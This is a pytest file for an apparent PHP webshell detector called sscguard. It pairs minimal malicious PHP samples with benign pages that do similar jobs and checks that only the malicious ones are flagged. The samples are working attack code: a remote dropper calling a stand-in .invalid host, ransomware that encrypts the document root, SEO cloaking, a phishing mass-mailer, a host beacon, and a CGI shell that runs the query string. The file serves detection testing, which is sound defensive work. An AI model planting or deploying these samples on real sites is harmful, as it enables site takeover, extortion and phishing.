"""The second set of PHP capabilities (SSC-003-490..492 and the extensions of 451, 452, 455,
456, 457, 458, 459): tools that carry no request-to-sink path. One shell-shaped sample and one
legitimate page doing a similar job per behaviour, through the whole detector (gate included).

Every sample is minimal and written for this test; addresses use reserved ``.invalid`` or
``example`` names."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sscguard.detect.webshell import capability as cap
from sscguard.detect.webshell.detectors import run_detectors
from sscguard.detect.webshell.flow import Budget
from sscguard.model import Severity
from sscguard.rules.yara import Matcher, compile_rules

#: (rule ID, severity at least, sample)
POSITIVE: dict[str, tuple[str, Severity, bytes]] = {
    "dropper-from-url": (
        cap.DROPPER,
        Severity.HIGH,
        b"""<?php
function grab($u, $to = "") {
    $to = $to ? $to : basename($u);
    $c = curl_init($u);
    curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);
    file_put_contents($to, curl_exec($c));
}
echo grab("http://files.example.invalid/kit/up.php");""",
    ),
    "stager-to-cookie-path": (
        cap.DROPPER,
        Severity.MEDIUM,
        b"<?php if (!empty($_COOKIE['p'])) { file_put_contents($_COOKIE['p'], "
        b"gzinflate(base64_decode(file_get_contents('/tmp/.cache')))); }",
    ),
    "download-into-docroot": (
        cap.DEFACE,
        Severity.MEDIUM,
        b"""<?php
$page = file_get_contents('https://paste.example.invalid/raw/x1');
$fp = fopen($_SERVER['DOCUMENT_ROOT'] . '/notice.html', 'w');
fwrite($fp, $page);
fclose($fp);""",
    ),
    "cloaking": (
        cap.SEO_CLOAK,
        Severity.MEDIUM,
        b"""<?php
function fetch($u) {
    $c = curl_init(); curl_setopt($c, CURLOPT_URL, $u);
    curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); return curl_exec($c);
}
$ua = $_SERVER['HTTP_USER_AGENT']; $ref = $_SERVER['HTTP_REFERER'];
if (stripos($ua, 'Googlebot') !== false) {
    echo fetch('http://spam.example.invalid/page.php?h=' . $_SERVER['HTTP_HOST']); exit;
}
if (stripos($ref, 'google') !== false) {
    header('Location: http://shop.example.invalid/'); exit;
}""",
    ),
    "ransomware": (
        cap.RANSOM,
        Severity.HIGH,
        b"""<?php
function lock($dir, $key) {
    foreach (scandir($dir) as $e) {
        if ($e == '.' || $e == '..') continue;
        $p = $dir . '/' . $e;
        if (is_dir($p)) { lock($p, $key); continue; }
        $data = file_get_contents($p);
        file_put_contents($p, openssl_encrypt($data, 'aes-256-cbc', $key, 0, '0123456789abcdef'));
        rename($p, $p . '.locked');
    }
}
lock($_SERVER['DOCUMENT_ROOT'], $_POST['key']);""",
    ),
    "reverse-ip": (
        cap.HOST_RECON,
        Severity.MEDIUM,
        b"""<?php
$ip = $_POST['ip'];
$page = file_get_contents("https://www.bing.com/search?q=" . urlencode("ip:$ip") . "&first=1");
preg_match_all('#<a href="(https?://[^"]+)"#', $page, $m);
echo implode("\\n", array_unique($m[1]));""",
    ),
    "list-mailer": (
        cap.MASS_MAILER,
        Severity.MEDIUM,
        b"""<?php
$cfg['list'] = 'http://lists.example.invalid/targets.txt';
$src = $cfg['list'];
$all = @file($src);
for ($i = 0; $i < count($all); $i++) {
    $to = trim($all[$i]);
    mail($to, $_GET['s'], 'Please verify your account', "From: support@bank.example\\n");
}""",
    ),
    "location-beacon": (
        cap.MAIL_EXFIL,
        Severity.MEDIUM,
        b"""<?php
$info = $_SERVER['DOCUMENT_ROOT'] . "\\n" . $_SERVER['SCRIPT_FILENAME'];
$to = "me@example.invalid";
mail($to, "new host", $info);""",
    ),
    "cookie-controller": (
        cap.NET_RELAY,
        Severity.MEDIUM,
        b"""<?php
$c = curl_init();
curl_setopt_array($c, array(CURLOPT_URL => $_POST['target'],
    CURLOPT_COOKIE => 'c=' . base64_encode($_POST['cmd'])));
curl_exec($c);""",
    ),
    "own-directory-upload": (
        cap.FILE_DROP,
        Severity.MEDIUM,
        b"""<?php
if (isset($_FILES['f'])) {
    $dest = getcwd() . '/' . basename($_FILES['f']['name']);
    move_uploaded_file($_FILES['f']['tmp_name'], $dest);
    echo "<a href='" . $_FILES['f']['name'] . "'>done</a>";
}""",
    ),
    "cgi-drop": (
        cap.CODE_WRITE,
        Severity.HIGH,
        b"""<?php
@mkdir('cgi');
file_put_contents('cgi/.htaccess', "Options +ExecCGI\\nAddHandler cgi-script .sh\\n");
file_put_contents('cgi/run.sh', "#!/bin/sh\\necho\\n/bin/sh -c \\"\\$QUERY_STRING\\"\\n");
chmod('cgi/run.sh', 0755);""",
    ),
}

#: legitimate pages doing a similar job: none may produce a finding of medium or more
BENIGN: dict[str, bytes] = {
    "updater-saves-zip": b"""<?php
$zip = file_get_contents('https://updates.example.org/app/latest.zip');
file_put_contents(sys_get_temp_dir() . '/update.zip', $zip);""",
    "rates-cache": b"""<?php
$json = file_get_contents('https://api.example.org/rates');
file_put_contents(__DIR__ . '/cache/rates.json', $json);""",
    "avatar-from-db": b"""<?php
$row = $db->fetch($_GET['id']);
file_put_contents('cache/avatar-' . (int)$_GET['id'] . '.png', base64_decode($row['img']));""",
    "prerender-for-bots": b"""<?php
if (preg_match('/googlebot|bingbot|yandex/i', $_SERVER['HTTP_USER_AGENT'])) {
    echo file_get_contents('https://render.example.org/' . $_SERVER['REQUEST_URI']);
    exit;
}""",
    "prerender-and-https-redirect": b"""<?php
if (empty($_SERVER['HTTPS'])) {
    header('Location: https://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']); exit;
}
if (stripos($_SERVER['HTTP_USER_AGENT'], 'Googlebot') !== false) {
    echo file_get_contents('https://render.example.org/' . $_SERVER['REQUEST_URI']); exit;
}""",
    "encrypted-backup": b"""<?php
function backup($dir, $out, $key) {
    foreach (scandir($dir) as $e) {
        if ($e[0] == '.') continue;
        $p = "$dir/$e";
        if (is_dir($p)) { backup($p, $out, $key); continue; }
        $data = file_get_contents($p);
        file_put_contents($out . '/' . md5($p), openssl_encrypt($data, 'aes-256-cbc', $key));
    }
}
backup(__DIR__ . '/data', '/var/backups/app', getenv('BACKUP_KEY'));""",
    "search-box": b"""<?php
$q = $_GET['q'];
echo file_get_contents("https://www.bing.com/search?q=" . urlencode($q));""",
    "newsletter-from-local-list": b"""<?php
foreach (file(__DIR__ . '/subscribers.txt') as $to) {
    mail(trim($to), $_POST['subject'] ?? 'News', 'This month...');
}""",
    "api-client-with-session-cookie": b"""<?php
$c = curl_init();
curl_setopt_array($c, array(CURLOPT_URL => 'https://api.example.org/v1/me',
    CURLOPT_COOKIE => 'sid=' . $_COOKIE['sid']));
echo curl_exec($c);""",
    "upload-with-extension-check": b"""<?php
if (isset($_FILES['f'])) {
    $ext = strtolower(pathinfo($_FILES['f']['name'], PATHINFO_EXTENSION));
    if (!in_array($ext, array('jpg', 'png'))) die('bad type');
    move_uploaded_file($_FILES['f']['tmp_name'], getcwd() . '/' . basename($_FILES['f']['name']));
}""",
    "rewrite-rules": b"""<?php
$rules = "RewriteEngine On\\nRewriteRule ^(.*)$ index.php [L]\\n";
file_put_contents(__DIR__ . '/.htaccess', $rules);""",
}


_MATCHER: list[Matcher] = []


def _findings(data: bytes) -> dict[str, Severity]:
    if not _MATCHER:
        _MATCHER.append(Matcher(compile_rules(())))
    matcher = _MATCHER[0]
    hits = matcher.match(data, {"filename": "", "filepath": "", "extension": "", "filetype": ""})
    findings = run_detectors("x.php", data, hits, False, matcher.gates)
    out: dict[str, Severity] = {}
    for f in findings:
        out[f.rule_id] = max(out.get(f.rule_id, f.severity), f.severity, key=lambda s: s.rank)
    return out


@pytest.mark.parametrize("name", sorted(POSITIVE))
def test_tool_is_flagged(name: str) -> None:
    rule_id, least, data = POSITIVE[name]
    found = _findings(data)
    assert rule_id in found, (name, found)
    assert found[rule_id].rank >= least.rank, (name, found)
    assert cap.gate_passes(data, None), name  # the Python gate agrees with the YARA-X one


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_similar_legitimate_page_is_not_flagged(name: str) -> None:
    found = _findings(BENIGN[name])
    assert not [r for r, s in found.items() if s.rank >= Severity.MEDIUM.rank], (name, found)


def test_evidence_names_the_fixed_address_and_the_write() -> None:
    report = cap.analyse_capabilities(POSITIVE["dropper-from-url"][2], Budget())
    drop = next(c for c in report.capabilities if c.rule_id == cap.DROPPER)
    assert "files.example.invalid/kit/up.php" in drop.detail
    assert drop.line == 6 and drop.steps[-1].line == 6


def test_guarded_upload_stays_low() -> None:
    page = POSITIVE["own-directory-upload"][2].replace(
        b"if (isset($_FILES['f']))", b"if (isset($_FILES['f']) && current_user_can('upload'))"
    )
    found = _findings(page)
    assert found.get(cap.FILE_DROP, Severity.LOW).rank < Severity.MEDIUM.rank


FAST = settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
SEED = b"".join(d for _r, _s, d in POSITIVE.values())


@FAST
@given(st.integers(0, len(SEED)), st.integers(0, len(SEED)))
def test_new_rules_never_crash_on_spliced_tools(start: int, cut: int) -> None:
    report = cap.analyse_capabilities(SEED[start:] + SEED[:cut], Budget())
    assert all(c.rule_id in cap.ALL_IDS and c.line >= 1 for c in report.capabilities)
